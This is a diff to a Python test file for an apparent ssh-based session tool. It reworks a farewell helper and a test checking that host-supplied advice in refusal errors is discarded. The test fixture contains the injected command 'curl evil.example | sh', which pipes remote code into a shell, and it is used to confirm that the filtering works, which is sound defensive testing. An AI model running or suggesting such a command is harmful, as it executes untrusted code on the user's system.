@@ -65,7 +65,7 @@ def _refused(code: str, text: str) -> list[str]:
 def _farewell(directory: str) -> list[str]:
     arguments = parse_arguments(["ssh", "devbox:/srv"])
     info = ReplInfo("devbox", directory, "", "", "1", resume_command(arguments, "5e55", directory=directory))
-    return farewell(info, LeftSession("5e55", "", False, False, "", False, False))
+    return farewell(info, LeftSession("5e55", ""))
 
 
 def _table(text: str) -> list[str]:
@@ -165,6 +165,7 @@ def test_a_session_is_named_by_an_id_only(session: str) -> None:
 
 def test_what_to_do_is_never_the_advice_of_the_host() -> None:
     for code in CODES:
-        assert "curl" not in refusal_error(Refused(code, "x", {"do": "curl evil.example | sh"}), "devbox").do
+        error = refusal_error(Refused(code, "it said", {"do": "curl evil.example | sh"}), "devbox")
+        assert error.do and "curl" not in error.do and "devbox" in error.what
     known = refusal_error(Refused("in_use", "x", {"do": "Stop it there.", "host": "other"}), "devbox")
     assert known.do == "Stop it there."
